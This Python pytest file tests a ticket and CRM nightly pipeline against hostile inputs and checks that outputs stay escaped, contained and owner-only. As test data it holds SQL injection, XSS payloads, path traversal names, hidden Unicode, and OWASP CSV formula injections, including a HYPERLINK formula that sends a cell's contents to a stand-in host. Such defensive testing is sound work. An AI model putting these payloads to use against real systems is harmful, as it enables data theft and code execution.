"""One night on an export and CRM files that were written to do harm: what is published is text, stays in its place and
is for its owner alone."""

from __future__ import annotations

import csv
import io
import re
import stat
from collections.abc import Callable
from pathlib import Path

import duckdb
import pytest

from tests.contract.homes import call, ticket, user, write_lines

csv.field_size_limit(32 << 20)  # an id of 1 MB is read back
Copy = Callable[[Path], Path]
DAY = "2026-11-12"
SQL = "x'); DROP TABLE tickets; --"
SCRIPT = "<script>document.title='taken'</script><svg onload=alert(1)><style>*{display:none}</style>"
HIDDEN = "\u202egpj.exe\u202c \u2066a\u2069 z\u200be\u200dr\ufeffo"
# https://owasp.org/www-community/attacks/CSV_Injection, with what stands before a formula unseen
FORMULAS = (
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    '@SUM(1+1)*HYPERLINK("http://198.51.100.1/?x="&A1,"see")',
    "\u200b=1+1",
    "\t=1+1",
    "\uff1d1+1",
    '";=1+1',
)
PATHS = (
    "../../../x",
    "C:\\x",
    "a\0b",
    "x" * 300,
    ".",
    "CON",
    "trailing.",
    "Mia@x.example",
    "mia@x.example",
    "\uff4dia@x.example",
)
WISH = "We have outgrown our plan. Could you add 40 more seats to our Team plan? What would they cost us?"


def _csv(path: Path, *rows: list[str]) -> Path:
    with open(path, "w", encoding="utf-8", newline="") as stream:
        csv.writer(stream).writerows(rows)
    return path


@pytest.fixture(scope="module")
def night(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, str]:
    """The home after the night, and what the night said."""
    folder = tmp_path_factory.mktemp("hostile")
    evil = [*FORMULAS, SCRIPT, HIDDEN, SQL, *PATHS]
    tickets = [
        ticket(
            f"{n}{text[:40]}",
            f"{WISH} {text}",
            subject=f"{text} {SCRIPT}",
            organization_id=n,
            status="solved",
            url="javascript:alert(1)",
        )
        for n, text in enumerate(evil)
    ]
    tickets.append(ticket("1" * (1 << 20), WISH, organization_id=0))  # an id of 1 MB
    write_lines(folder / "export" / "tickets.ndjson", tickets)
    write_lines(folder / "export" / "users.ndjson", [user(20, f"{FORMULAS[0]} {SCRIPT}", "pat@elmcrest.example")])
    write_lines(
        folder / "export" / "organizations.ndjson",
        [{"id": n, "name": text, "external_id": f"{SQL}{n}", "domain_names": []} for n, text in enumerate(evil)],
    )
    header = ["account_id", "name", "plan", "seats", "arr", "owner_email"]
    rows = [
        [f"{SQL}{n}", text.replace("\0", ""), text.replace("\0", ""), "10", "9000", text.replace("\0", "")]
        for n, text in enumerate(evil)
    ]
    accounts = _csv(folder / "accounts.csv", header, *rows)
    products = _csv(folder / "products.csv", ["name", "aliases"], [f"{FORMULAS[0]} Team plan", "Team plan"])
    home = folder / "home"
    said = call(
        home, "nightly", f"--as-of={DAY}", "--engine=local", "--tickets", folder / "export", "--accounts", accounts,
        "--products", products,
    )  # fmt: skip
    assert said.returncode in (0, 1), said.stderr
    return home, said.stdout + said.stderr


def _cells(home: Path) -> list[str]:
    return [
        cell
        for file in sorted(home.glob("data/*/*/*.csv"))
        for row in csv.reader(io.StringIO(file.read_text(encoding="utf-8-sig"), newline=""), strict=True)
        for cell in row
    ]


def test_no_cell_of_any_list_runs(night: tuple[Path, str]) -> None:
    cells = _cells(night[0])
    assert [cell for cell in cells if cell.startswith("'")]  # the payloads did reach the lists
    assert [c for c in cells if re.match(r"[\s\u200b\ufeff]*([=+@\uff1d|%\t\r]|-(?![\d.]+$))", c)] == []


def test_nothing_lies_outside_the_home_and_no_two_owners_share_a_folder(night: tuple[Path, str]) -> None:
    home, _ = night
    assert sorted(path.name for path in home.parent.iterdir()) == ["accounts.csv", "export", "home", "products.csv"]
    folders = [path for path in (home / "data" / "owners").iterdir() if path.is_dir()]
    assert len(folders) >= 15
    assert all(path.resolve().parent == (home / "data" / "owners").resolve() for path in folders)
    assert len({path.name.casefold() for path in folders}) == len(folders)


def test_everything_is_for_its_owner_alone(night: tuple[Path, str]) -> None:
    home, _ = night
    open_to_others = {
        str(path.relative_to(home)): oct(path.stat().st_mode)
        for path in [home, *home.rglob("*")]
        if stat.S_IMODE(path.stat().st_mode) & 0o077
    }
    assert open_to_others == {}


def test_sql_in_ids_is_an_id(night: tuple[Path, str]) -> None:
    with duckdb.connect(str(night[0] / "data" / "warehouse.duckdb"), read_only=True) as con:
        assert con.execute("SELECT count(*) FROM accounts WHERE account_id LIKE 'x''); DROP TABLE%'").fetchone() == (
            21,
        )
        row = con.execute("SELECT count(*) FROM tickets").fetchone()
    assert row and row[0] >= 15


def test_the_page_has_no_live_mark_up_and_one_style(night: tuple[Path, str]) -> None:
    page = (night[0] / "data" / "digests" / DAY / "digest.html").read_text(encoding="utf-8")
    assert "javascript:" not in page and "<script" not in page and "onload=alert(1)>" not in page
    assert page.count("<style>") == 1


@pytest.mark.parametrize("column", ["outcome", "outcome_reason", "snooze_until"])
def test_what_is_typed_with_a_formula_comes_back_as_text(column: str, night: tuple[Path, str], copy_of: Copy) -> None:
    home = copy_of(night[0])
    file = sorted(home.glob("data/owners/*/open.csv"))[0]
    rows = list(csv.DictReader(io.StringIO(file.read_text(encoding="utf-8-sig"), newline="")))
    rows[0] |= {"outcome": "contacted", column: FORMULAS[0] + SQL}
    with open(file, "w", encoding="utf-8", newline="") as stream:
        writer = csv.DictWriter(stream, list(rows[0]))
        writer.writeheader()
        writer.writerows(rows)
    for command in ("feedback", "decide", "publish"):
        words = [command, "import", file] if command == "feedback" else [command]
        assert call(home, *words, f"--as-of={DAY}").returncode in (0, 1)
    assert [cell for cell in _cells(home) if cell.startswith("=cmd")] == []


@pytest.mark.parametrize("signal", ["../../x", "C:\\x", "x" * 300, ".", "CON", "a\nb", "upgrade_intent/../x"])
def test_a_signal_that_is_a_path_is_refused(signal: str, night: tuple[Path, str], tmp_path: Path) -> None:
    labels = write_lines(tmp_path / "l.jsonl", [{"text": "a", "label": 1}])
    before = sorted(str(path) for path in night[0].parent.rglob("*"))
    for words in (
        ["train", signal, "--labels", labels],
        ["evaluate", signal, "--labels", labels],
        ["promote", signal, "0123456789abcdef"],
        ["rollback", signal],
        ["retrain", signal],
        ["models", signal],
    ):
        done = call(night[0], *words)
        assert done.returncode == 2, (words, done.stderr)
        assert "Traceback" not in done.stderr
    assert sorted(str(path) for path in night[0].parent.rglob("*")) == before
